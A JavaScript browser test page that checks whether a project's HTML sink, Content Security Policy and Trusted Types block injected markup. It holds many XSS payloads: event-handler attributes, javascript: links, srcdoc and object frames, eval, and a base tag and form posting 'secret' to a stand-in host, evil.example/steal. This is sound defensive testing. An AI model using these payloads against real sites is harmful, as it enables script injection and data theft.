// Defence in depth, tested: this page puts payloads through the real HTML
// sink (www/js/html-sink.js) as if they had slipped past Lectern's sanitiser,
// under the page's real CSP or without one. The test serves either the real
// sink (the browser's Sanitizer API check must remove them) or a test build
// of it whose checks let everything through (the CSP and Trusted Types must
// stop them instead, and report a violation).
import { setArticleHtml } from '/www/js/html-sink.js';

window.__ran = [];
window.__violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.__violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample });
});

const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const attempts = {};
/** A fresh container per attempt, so that each payload stays in the page. */
function container() {
  const element = document.createElement('div');
  document.getElementById('article-body').append(element);
  return element;
}

async function attempt(name, run) {
  try {
    await run();
    attempts[name] = 'no error';
  } catch (error) {
    attempts[name] = `${error.name}: ${error.message}`;
  }
}

// Through the one sink, with the sanitiser bypassed: the markup really lands.
await attempt('inline handlers', async () => {
  await setArticleHtml(container(), '<img id="slipped" src="/nonexistent.png" onerror="window.__ran.push(\'img onerror\'); alert(1)">'
    + '<svg><animate onbegin="window.__ran.push(\'svg onbegin\')" attributeName="x" dur="1s"></animate></svg>'
    + '<p onmouseover="window.__ran.push(\'onmouseover\')" id="hover">hover</p>');
});
await attempt('javascript: link', async () => {
  await setArticleHtml(container(), '<a id="js-link" href="javascript:window.__ran.push(\'javascript: link\')">x</a>');
  document.getElementById('js-link').click();
});
await attempt('base element', () => setArticleHtml(container(), '<base href="https://evil.example/">'));
await attempt('form to elsewhere', async () => {
  // Submitted into a frame of the test's own, so that without a CSP the page stays.
  const frame = document.createElement('iframe');
  frame.name = 'sink';
  document.body.append(frame);
  await setArticleHtml(container(), '<form id="f" target="sink" action="https://evil.example/steal"><input name="q" value="secret"></form>');
  document.getElementById('f').requestSubmit();
});
await attempt('plugin object', () => setArticleHtml(container(), '<object data="data:text/html,<script>parent.__ran.push(\'object\')</script>"></object>'));
await attempt('inline style', () => setArticleHtml(container(), '<style>body{background:red}</style><p style="color:red">styled</p>'));
await attempt('srcdoc frame', () => setArticleHtml(container(), '<iframe srcdoc="<script>parent.__ran.push(\'srcdoc\')</script>"></iframe>'));

// Around the sink: no string reaches an HTML sink without the one policy.
await attempt('raw innerHTML', () => { document.getElementById('raw').innerHTML = '<img src=/x onerror="window.__ran.push(\'raw\')">'; });
await attempt('insertAdjacentHTML', () => document.getElementById('raw').insertAdjacentHTML('beforeend', '<b>x</b>'));
await attempt('a second policy', () => trustedTypes.createPolicy('bypass', { createHTML: (s) => s }));
await attempt('eval', () => window.eval('window.__ran.push("eval")'));
await attempt('Function', () => new Function('window.__ran.push("Function")')());
await attempt('handler by setAttribute', () => document.getElementById('raw').setAttribute('onclick', 'window.__ran.push("setAttribute")'));
await attempt('script element', () => {
  const script = document.createElement('script');
  script.textContent = 'window.__ran.push("script element")';
  document.body.append(script);
});

// Let blocked loads and events happen.
document.getElementById('hover')?.dispatchEvent(new MouseEvent('mouseover'));
await wait(1000);

const body = document.getElementById('article-body');
window.__result = {
  attempts,
  slippedThrough: document.getElementById('slipped')?.getAttribute('onerror') ?? null,
  baseURI: document.baseURI,
  // What of the payloads the sink let into the page.
  landed: {
    handlers: [...body.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${e.localName}[${a.name}]`)),
    elements: [...body.querySelectorAll('script, style, svg, base, form, input, object, iframe')].map((e) => e.localName),
    javascriptLinks: [...body.querySelectorAll('a[href]')].filter((a) => /^javascript:/i.test(a.getAttribute('href'))).length,
    styled: body.querySelectorAll('[style]').length,
  },
};
